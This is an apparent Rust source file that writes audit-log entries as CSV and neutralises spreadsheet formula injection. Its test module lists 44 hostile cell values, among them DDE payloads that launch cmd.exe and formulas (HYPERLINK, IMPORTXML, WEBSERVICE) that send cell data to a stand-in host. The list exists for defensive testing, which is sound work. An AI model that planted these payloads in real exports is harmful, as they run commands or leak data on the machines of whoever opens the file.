//! Entries as CSV for a spreadsheet: a regulator's six columns first, and no cell that a spreadsheet would run.
//!
//! UTF-8 without a byte order mark: programs trip over one, and `claviger audit csv --out FILE`, which is for people,
//! writes it.

use claviger_core::audit::Entry;

/// The columns, those that a regulator asks for first.
const COLUMNS: [&str; 14] = [
    "user_id",
    "action",
    "resource_type",
    "resource_id",
    "ip_address",
    "timestamp",
    "outcome",
    "rule",
    "tenant",
    "tenant_seq",
    "seq",
    "user_kind",
    "request_id",
    "detail",
];

/// What a formula begins with, also in full width and in the small forms that some spreadsheets fold.
const FORMULA: [char; 13] = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];

/// What a cell ends with where the reader's settings say so, whatever its quotes.
const SEPARATORS: [char; 5] = [',', ';', '|', '，', '；'];

/// Writes the head and a row for each entry.
pub(super) fn table(entries: &[Entry]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new().quote_style(csv::QuoteStyle::Always).from_writer(Vec::new());
    // Writing to memory does not fail; a row that did would be missing visibly, by its number.
    let _ = writer.write_record(COLUMNS);
    for entry in entries {
        let detail: Vec<String> = entry.detail.iter().map(|(name, value)| format!("{name}={value}")).collect();
        let cells = [
            entry.user_id.clone(),
            entry.action.clone(),
            entry.resource_type.clone(),
            entry.resource_id.clone(),
            entry.ip_address.clone(),
            entry.at.clone(),
            word(entry.outcome),
            entry.rule.clone(),
            entry.tenant.clone(),
            entry.tenant_seq.to_string(),
            entry.seq.to_string(),
            word(entry.user_kind),
            entry.request_id.clone(),
            detail.join("; "),
        ];
        let _ = writer.write_record(cells.iter().map(|cell| neutral(cell)));
    }
    writer.into_inner().unwrap_or_default()
}

fn word(value: impl serde::Serialize) -> String {
    serde_json::to_value(value).ok().and_then(|v| v.as_str().map(str::to_owned)).unwrap_or_default()
}

/// A cell that no spreadsheet runs: an apostrophe stands before whatever begins like a formula, also behind white space,
/// quotes, and what separates cells elsewhere. Characters that do not show are shown as U+FFFD.
fn neutral(cell: &str) -> String {
    let mut out = String::with_capacity(cell.len());
    let (mut begins, mut first) = (true, true);
    for c in cell.chars() {
        let hidden = c.is_control() || is_invisible(c);
        if begins && FORMULA.contains(&c) {
            // At the very front an apostrophe makes the whole cell a text.
            out.insert(if first { 0 } else { out.len() }, '\'');
        }
        out.push(if hidden { '\u{fffd}' } else { c });
        let separates = hidden || SEPARATORS.contains(&c);
        begins = separates || (begins && (c.is_whitespace() || is_quote(c)));
        first &= begins && !SEPARATORS.contains(&c);
    }
    out
}

fn is_quote(c: char) -> bool {
    matches!(c, '"' | '\'' | '`' | '´' | '‘'..='‟' | '«' | '»' | '＂' | '＇')
}

/// Zero-width characters, marks of direction, and line separators: what would hide the beginning of a cell.
fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What people have put into cells to have it run.
    const HOSTILE: [&str; 44] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "=cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-cmd|'/C calc'!A0",
        "@cmd|'/C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
        "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"http://192.0.2.1/?v=\",A1),\"//a\")",
        "=WEBSERVICE(\"http://192.0.2.1/\")",
        "=IMAGE(\"http://192.0.2.1/\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "x\n=1+1",
        "x\r=1+1",
        "x\t=1+1",
        " =1+1",
        "   +1",
        "\u{a0}=1",
        "\u{3000}=1",
        "\u{200b}=1",
        "\u{feff}=1",
        "\u{202e}=1",
        "\0=1",
        "\u{b}=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "−1",
        "\"=1+1\"",
        "\",=1+1,\"",
        "x\",\"=1+1",
        "x;=1+1",
        "x; \"=1+1",
        "x|=1+1",
        "'=1+1",
        "%0A=1+1\n+1",
    ];

    /// Whether some piece of a cell would be taken for a formula, by whatever rule cells are told apart.
    fn runs(cell: &str) -> bool {
        cell.split([',', ';', '|', '\t', '\r', '\n', '，', '；']).any(|piece| {
            let skipped =
                |c: char| c.is_whitespace() || c == '"' || c == '\u{200b}' || c == '\u{feff}' || c.is_control();
            piece.trim_start_matches(skipped).starts_with(FORMULA)
        })
    }

    #[test]
    fn no_cell_begins_a_formula() {
        for hostile in HOSTILE {
            let cell = neutral(hostile);
            assert!(!runs(&cell), "{hostile:?} became {cell:?}");
            assert!(!cell.chars().any(|c| c.is_control() || is_invisible(c)), "{hostile:?} became {cell:?}");
        }
    }

    #[test]
    fn an_apostrophe_comes_where_it_is_needed() {
        for (cell, neutralised) in [
            ("=1", "'=1"),
            ("  =1", "'  =1"),
            ("\t=1", "'\u{fffd}=1"),
            ("a;=1", "a;'=1"),
            ("\"=1", "'\"=1"),
            ("-5, -6", "'-5, '-6"),
        ] {
            assert_eq!(neutral(cell), neutralised);
        }
        for harmless in
            ["cred_0123", "", "order.place", "a=b", "x-y@z", "2026-11-22T00:00:00.000Z", "venue=binance; why=no"]
        {
            assert_eq!(neutral(harmless), harmless);
        }
    }
}
